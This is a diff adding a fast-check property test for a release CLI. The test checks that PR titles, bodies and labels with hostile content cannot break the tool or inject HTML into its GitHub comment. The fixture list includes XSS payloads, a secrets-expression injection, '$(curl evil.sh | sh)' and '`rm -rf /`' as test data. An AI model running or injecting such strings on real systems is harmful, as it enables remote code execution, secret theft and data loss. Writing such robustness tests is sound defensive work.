@@ -208,3 +208,35 @@ describe('plan with GitHub (fake checked against the OpenAPI description)', () =
     expect(github.requests.filter((r) => r.path.endsWith('/issues/61')).map((r) => r.status).slice(before)).toEqual([403, 429, 200]);
   });
 });
+
+describe('plan: generated PR titles, bodies, labels and authors (fast-check)', () => {
+  it('exit 0 or 1, never a stack trace; the sticky comment holds no raw HTML from the PR and stays one comment', async () => {
+    const { default: fc } = await import('fast-check');
+    const r = await repo('1.0.0');
+    const sha = await r.commit('feat: generated');
+    const env = { ...githubEnv(), GITHUB_SHA: sha };
+    const nasty = fc.oneof(
+      fc.constantFrom('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '${{ secrets.NPM_TOKEN }}', '$(curl evil.sh | sh)', '`rm -rf /`', '[click](javascript:alert(1))', '<!-- mcp-release-kit:plan:x -->', '| a | b |', '\u202e\u0000', '@everyone #1'),
+      fc.string({ maxLength: 80 }),
+      fc.constant('x'.repeat(1024 * 1024)),
+    );
+    let number = 500;
+    await fc.assert(
+      fc.asyncProperty(nasty, nasty, fc.array(fc.oneof(fc.constantFrom('release:minor', 'release:patch', 'release:skip'), nasty.map((s) => s.slice(0, 50))), { maxLength: 3 }), async (title, body, labels) => {
+        number += 1;
+        github.pulls.set(number, { number, title, body, author: 'mallory', labels: [...new Set(labels)].filter(Boolean) });
+        const run = await runNode(CLI, ['plan', r.dir, '--registry', registry.url, '--pr', String(number), '--comment', '--json'], { env });
+        expect([0, 1]).toContain(run.code);
+        expect(run.stdout + run.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
+        const comments = github.comments.filter((c) => c.issue === number);
+        expect(comments.length).toBeLessThanOrEqual(1);
+        for (const c of comments) {
+          expect(c.body).not.toMatch(/<script|<img|<!-- mcp-release-kit:plan:x/i);
+          // GitHub refuses comment bodies over 65,536 characters.
+          expect(c.body.length).toBeLessThanOrEqual(65_536);
+        }
+      }),
+      { numRuns: 10 },
+    );
+  }, 300_000);
+});
